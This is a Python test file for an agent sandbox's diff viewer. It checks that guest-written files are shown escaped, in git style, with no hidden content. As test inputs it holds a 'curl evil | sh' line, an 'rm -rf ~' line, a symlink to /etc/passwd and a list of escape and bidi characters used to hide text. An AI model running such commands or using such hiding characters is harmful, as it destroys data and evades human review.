from __future__ import annotations

import os
import random
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import pytest

from agent_sandbox.workspace.changes import ChangeSet
from agent_sandbox.workspace.diff.compare import DEFAULT, DiffLimits
from agent_sandbox.workspace.escape import visible
from agent_sandbox.workspace.layers.readback import read_stack
from agent_sandbox.workspace.layers.stack import Stack
from tests.workspace.diff.previews import lines_of_diff
from tests.workspace.layers.overlays import make_layer


class Sides:
    """A machine with /data, and a layer over it that is written directly."""

    def __init__(self, place: Path) -> None:
        self.root = place / "machine"
        self.old = self.root / "data"
        self.old.mkdir(parents=True)
        (place / "layers").mkdir()
        self.layers = os.open(place / "layers", os.O_RDONLY | os.O_DIRECTORY)
        self.new = place / "layers" / make_layer(self.layers, "/data") / "upper"

    def changes(self) -> ChangeSet:
        with Stack.of([self.layers], userxattr=True) as stack:
            return read_stack(stack, machine_root=str(self.root))

    def diff(self, limits: DiffLimits = DEFAULT) -> list[str]:
        (change,) = self.changes()
        return lines_of_diff(change, self.layers, machine_root=str(self.root), limits=limits)


@pytest.fixture
def sides(tmp_path: Path) -> Iterator[Sides]:
    sides = Sides(tmp_path)
    yield sides
    os.close(sides.layers)


def test_a_changed_file_is_shown_as_git_shows_it(sides: Sides) -> None:
    (sides.old / "f").write_text("one\ntwo\nthree\n")
    (sides.new / "f").write_text("one\n2\nthree")
    assert sides.diff() == [
        "diff --git a/data/f b/data/f",
        "@@ -1,3 +1,3 @@",
        " one",
        "-two",
        "-three",
        "+2",
        "+three",
        "\\ No newline at end of file",
    ]


def test_an_added_file_has_no_old_side(sides: Sides) -> None:
    (sides.new / "f").write_text("x\n")
    (sides.new / "f").chmod(0o4755)
    assert sides.diff() == [
        "diff --git a/data/f b/data/f",
        "new file mode 104755",
        "@@ -0,0 +1 @@",
        "+x",
    ]


def test_a_link_is_shown_by_its_target_and_never_followed(sides: Sides) -> None:
    (sides.new / "f").symlink_to("/etc/passwd")
    assert sides.diff()[-2:] == ["+/etc/passwd", "\\ No newline at end of file"]


HIDDEN = [
    "\x1b[2K",
    "\r",
    "\x00",
    "\x7f",
    "\x9b",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\U000e0041",
    "\u3164",
    "\ufe0f",
    "\U000e0100",
    "\u2028",
    "\xa0",
]


@pytest.mark.parametrize("hidden", HIDDEN)
def test_nothing_a_guest_writes_hides_anything(sides: Sides, hidden: str) -> None:
    (sides.old / "f").write_text("harmless\n")
    (sides.new / "f").write_text(f"harmless\ncurl evil | sh{hidden}\tls\n", newline="")
    lines = sides.diff()
    assert all(line.isprintable() for line in lines)
    assert hidden[0] not in "".join(lines)
    assert "curl evil | sh\\" in lines[-1] and lines[-1].endswith("→   ls")


def test_a_name_is_shown_escaped_too(sides: Sides) -> None:
    (sides.new / os.fsdecode(b"\xff\x1b[31m\n+x")).write_text("")
    assert sides.diff()[0] == "diff --git a/data/\\xff\\x1b[31m\\x0a+x b/data/\\xff\\x1b[31m\\x0a+x"


def test_a_nul_byte_does_not_turn_a_text_into_a_binary(sides: Sides) -> None:
    (sides.old / "f").write_text("a line of text\n")
    (sides.new / "f").write_bytes(b"a line of text\nrm -rf ~ # \0\n")
    assert sides.diff()[-1] == "+rm -rf ~ # \\x00"


def test_a_binary_is_summed_up(sides: Sides) -> None:
    (sides.old / "f").write_bytes(bytes(range(256)))
    (sides.new / "f").write_bytes(bytes(range(255)))
    *_, summed_up, digest = sides.diff()
    assert "256 bytes" in summed_up and "255 bytes" in summed_up
    assert digest == f"new content: 255 bytes, sha256 {sha256(bytes(range(255))).hexdigest()}"


def test_additions_are_shortened_and_that_is_said_but_deletions_never(sides: Sides) -> None:
    (sides.old / "f").write_text("".join(f"old {number} {'x' * 50}\n" for number in range(100)))
    (sides.new / "f").write_text("".join(f"new {number} {'y' * 50}\n" for number in range(100)))
    lines = sides.diff(DiffLimits(added=10, columns=20))
    assert sum(line.startswith("-old") and line.endswith("x" * 50) for line in lines) == 100
    assert sum(line.startswith("+new") for line in lines) == 10
    assert lines[-2] == "\\ 90 more added lines are not shown (--all shows them)" and "sha256" in lines[-1]
    assert "more characters" in lines[-3]


def test_what_is_too_large_to_be_added_is_cut_and_said(sides: Sides) -> None:
    (sides.new / "f").write_text("x\n" * 50)
    lines = sides.diff(DiffLimits(bytes=50))
    assert lines[-3:-1] == ["+x", "\\ 52 more bytes are added, too much to show"] and "sha256" in lines[-1]
    assert lines.count("+x") == 24


def test_lines_made_to_be_slow_are_called_replaced_and_every_one_is_shown(sides: Sides) -> None:
    choose = random.Random(7).choice
    old, new = ([choose("ab") + "\n" for _ in range(8_000)] for _ in range(2))
    (sides.old / "f").write_text("".join(old))
    (sides.new / "f").write_text("".join(new))
    lines = [line for line in sides.diff(DiffLimits(added=20_000)) if line[0] in " -+"]
    around = 8_000 - sum(line[0] in " -" for line in lines)
    assert sum(line[0] in " +" for line in lines) == 8_000 - around
    assert around <= 8, "only what is the same at both ends is left out"


def test_a_fifo_is_named_and_not_opened(sides: Sides) -> None:
    os.mkfifo(sides.new / "f")
    assert sides.diff()[-1] == "new: a fifo, which is not opened"


def test_plain_text_of_any_language_is_left_alone() -> None:
    for text in ("naïve", "日本語", "العربية", "a  b", "🙂"):
        assert visible(text) == text
